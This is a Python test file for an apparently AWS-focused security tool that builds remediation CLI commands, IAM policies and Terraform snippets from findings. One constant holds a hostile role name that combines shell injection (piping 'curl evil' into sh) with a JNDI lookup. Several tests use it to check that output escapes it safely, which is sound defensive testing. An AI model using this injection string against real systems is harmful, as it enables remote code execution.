import json
import re
import shlex
from datetime import UTC, datetime

import pytest

from app.core.model.finding import Evidence, Finding, FindingState, Severity
from app.core.rules.catalogue import catalogue
from app.core.rules.evidence import setting
from app.core.rules.fix import YOURS, FixText, fix_texts
from app.core.rules.known import IDENTITY, STOPPED
from app.core.rules.rule import Fix

NOW = datetime(2026, 11, 23, tzinfo=UTC)
STREAM = "arn:aws-us-gov:kinesisvideo:us-gov-west-1:111122223333:stream/front-door/1700000000000"
RULE = catalogue().posture["stream_keeps_no_media"]
HOSTILE = "arn:aws:iam::111122223333:role/x';curl\tevil|sh;'\"${jndi:x}<name>"


def finding(subject: str = STREAM, *evidence: Evidence) -> Finding:
    severity, state = Severity.LOW, FindingState.OPEN
    return Finding(111122223333, "rule", subject, "us-gov-west-1", severity, state, "message", evidence, NOW, NOW)


def made(fix: Fix, subject: str = STREAM, *evidence: Evidence) -> tuple[FixText, ...]:
    rule = RULE.__class__(RULE.code, RULE.title, RULE.practice, RULE.severity, (), "", fix, (), RULE.check)
    return fix_texts(rule, finding(subject, *evidence))


def texts(fix: Fix, subject: str = STREAM, *evidence: Evidence) -> dict[str, str]:
    return {text.title: text.text for text in made(fix, subject, *evidence)}


def test_it_fills_in_the_findings_own_names():
    found = texts(Fix("", policy="<partition> <account> <name> <region>", cli="describe <subject>"))

    assert found == {"Policy": "aws-us-gov 111122223333 front-door us-gov-west-1", "AWS CLI": f"describe {STREAM}"}


def test_the_shell_sees_a_hostile_name_as_one_word():
    assert shlex.split(texts(Fix("", cli="aws iam get-role --role-name <name>"), HOSTILE)["AWS CLI"])[4:] == [
        HOSTILE.rpartition("/")[2]
    ]


def test_json_sees_a_hostile_name_as_text():
    assert json.loads(texts(Fix("", policy='{"Resource": "<subject>"}'), HOSTILE)["Policy"]) == {"Resource": HOSTILE}


def test_terraform_evaluates_nothing_in_a_hostile_name():
    assert "$${jndi:x}" in texts(Fix("", terraform='name = "<name>"'), HOSTILE)["Terraform"]


def test_what_a_name_holds_is_not_filled_in_again():
    assert "<name>" in texts(Fix("", terraform='"<subject>"'), HOSTILE)["Terraform"]


def test_a_line_stands_once_for_each_key_that_the_evidence_names():
    listed = [setting("ListAccessKeys", f"AKIA{n}: 9 days old, never used") for n in (1, 2)]
    found = texts(
        Fix("", cli="aws x --user-name <name>\naws y --id <key> --status Inactive"), "arn:a:iam::1:user/u", *listed
    )
    assert found["AWS CLI"].splitlines() == [
        "aws x --user-name u",
        "aws y --id AKIA1 --status Inactive",
        "aws y --id AKIA2 --status Inactive",
    ]


def test_the_evidence_names_user_trail_tag_and_outsider():
    statement = Evidence(
        "statement",
        "identity policy p",
        '{"Condition": {"StringEquals": {"aws:ResourceTag/ro\\"om": "x"}}, '
        '"Principal": {"AWS": "arn:aws:iam::999988887777:root"}}',
    )
    evidence = (
        setting(IDENTITY, "arn:aws:iam::111122223333:user/ci/build bot"),
        setting(STOPPED, "org-trail: 2026-11-20 21:41:00Z"),
        statement,
    )
    (cli,) = made(Fix("", cli="<user> <trail> <tag> <outsider>"), STREAM, *evidence)
    assert shlex.split(cli.text) == ["build bot", "org-trail", 'ro"om', "999988887777"]
    assert cli.yours == ()


def test_what_nobody_told_is_said_to_be_the_readers_to_fill_in():
    (cli,) = made(Fix("", cli="x --user-name <user> --name <trail> --tag <name>"), "arn:aws:iam::111122223333:role/KEY")
    assert cli.text == "x --user-name USER --name TRAIL --tag KEY"
    assert cli.yours == (("USER", YOURS["USER"]), ("TRAIL", YOURS["TRAIL"]))


def test_a_caller_that_is_a_role_is_no_user():
    (cli,) = made(Fix("", cli="<user>"), STREAM, setting(IDENTITY, "arn:aws:iam::111122223333:role/r"))
    assert cli.text == "USER"


@pytest.mark.parametrize("name", catalogue().rules)
def test_each_word_to_fill_in_is_told(name: str):
    for text in fix_texts(catalogue().rules[name], finding()):
        capitals = re.findall(r"(?<![\w-])[A-Z]{3,}(?:-[A-Z]+)*(?![\w-])", text.text)
        assert set(capitals) - {"AWS", "KVS", "LIVE", "INACTIVE"} <= {word for word, _ in text.yours}


@pytest.mark.parametrize("name", catalogue().rules)
def test_each_rules_texts_leave_no_placeholder(name: str):
    for text in fix_texts(catalogue().rules[name], finding()):
        assert not any(
            f"<{word}>" in text.text
            for word in (
                "subject",
                "name",
                "kind",
                "account",
                "region",
                "partition",
                "key",
                "user",
                "trail",
                "tag",
                "outsider",
            )
        )


@pytest.mark.parametrize("name", catalogue().rules)
def test_each_rules_policy_is_json(name: str):
    for text in fix_texts(catalogue().rules[name], finding()):
        if text.title == "Policy":
            assert json.loads(text.text)["Version"] == "2012-10-17"


def test_a_user_is_no_access_key():
    rule = catalogue().detections["long_term_key_called_kvs"]

    (cli,) = fix_texts(rule, finding("arn:aws:iam::111122223333:user/cam-gate-07"))

    assert "arn:" not in cli.text
    assert "KEY" in dict(cli.yours)


def test_logging_reads_replaces_no_selector_of_media():
    (cli,) = fix_texts(catalogue().posture["read_management_events_not_logged"], finding())

    assert cli.text.startswith("aws cloudtrail get-event-selectors")
    assert "--advanced-event-selectors file://selectors.json" in cli.text
